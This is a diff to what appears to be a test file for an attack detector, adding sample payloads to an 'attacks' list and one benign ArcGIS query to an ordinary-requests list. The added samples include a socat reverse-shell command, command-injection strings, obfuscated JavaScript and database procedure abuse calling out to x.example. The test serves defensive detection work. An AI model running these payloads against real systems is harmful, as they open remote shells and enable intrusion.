@@ -91,6 +91,22 @@ const attacks: readonly string[] = [
   '/run/secrets/kubernetes.io/serviceaccount/token',
   "'] | //user/*[contains(*,'",
   '{__type(name:"User"){fields{name}}}',
+  // Interpreters with an option and nothing before them, code by its signs, a database's own procedures
+  "ruby -rsocket -e 'exit'",
+  'find . -exec id \\;',
+  'socat TCP:10.0.0.1:1 EXEC:sh',
+  'cmd.exe /Q /c dir',
+  '$env:windir',
+  "'sys'.'tem'('id')",
+  '#{%x(id)}',
+  'for(;;){}',
+  '[alert][0].call(this,1)',
+  '[][(![]+[])[+[]]]',
+  "openrowset('x')",
+  "utl_http.request('http://x.example')",
+  'declare @x varchar(99)',
+  '1 like 1',
+  'URL:http://x.example/x',
 ];
 const requests: readonly string[] = [
   'POST /u/picture.php;.jpg',
@@ -173,6 +189,7 @@ const ordinaryRequests: readonly string[] = [
   'GET /downloads/tool.example.tar.gz',
   'GET /search?q=return+true+love;+1',
   'GET /p/eyJpZCI6NX0',
+  'GET /arcgis/rest/services/roads/query?where=1%3D1&f=json',
   'GET /t?k=C74uX-CI9e5hIKLS53de7--5CNWyqkU',
   'GET /search?q=%E3%81%A0%E3%81%A0union%E3%81%A0select',
 ];
